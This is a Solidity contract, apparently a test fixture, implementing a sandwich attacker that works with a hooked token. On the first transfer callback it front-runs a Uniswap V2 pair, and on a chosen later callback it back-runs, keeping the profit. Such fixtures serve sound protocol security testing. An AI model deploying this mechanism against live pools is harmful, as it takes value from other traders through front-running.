// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface ISandwichPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

interface ISandwichToken {
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
}

/// @title AttackSandwich
/// @notice The searcher behind a hooked token: an AttackToken armed to call `strike()` on every
///         transfer lets it trade a Uniswap V2 pair from inside a fill. The first strike front-runs
///         (sells `amount` of `sold` into `pair`), strike number `backrunAt` back-runs (sells
///         everything it bought back), the others do nothing. It keeps its profit in `sold`.
///         Test only.
contract AttackSandwich {
    address public pair;
    address public sold;
    address public bought;
    uint256 public amount;
    uint256 public backrunAt;
    uint256 public strikes;

    function configure(address pair_, address sold_, address bought_, uint256 amount_, uint256 backrunAt_) external {
        pair = pair_;
        sold = sold_;
        bought = bought_;
        amount = amount_;
        backrunAt = backrunAt_;
        strikes = 0;
    }

    function strike() external {
        strikes += 1;
        if (strikes == 1) _sell(sold, amount);
        else if (strikes == backrunAt) _sell(bought, ISandwichToken(bought).balanceOf(address(this)));
    }

    /// @dev Sells `amountIn` of `tokenIn` into the pair at its reserves (Uniswap V2 math, 0.3% fee).
    function _sell(address tokenIn, uint256 amountIn) private {
        (uint112 reserve0, uint112 reserve1,) = ISandwichPair(pair).getReserves();
        bool zeroForOne = ISandwichPair(pair).token0() == tokenIn;
        (uint256 reserveIn, uint256 reserveOut) = zeroForOne ? (reserve0, reserve1) : (reserve1, reserve0);
        ISandwichToken(tokenIn).transfer(pair, amountIn);
        uint256 withFee = amountIn * 997;
        uint256 out = withFee * reserveOut / (reserveIn * 1000 + withFee);
        (uint256 out0, uint256 out1) = zeroForOne ? (uint256(0), out) : (out, uint256(0));
        ISandwichPair(pair).swap(out0, out1, address(this), "");
    }
}
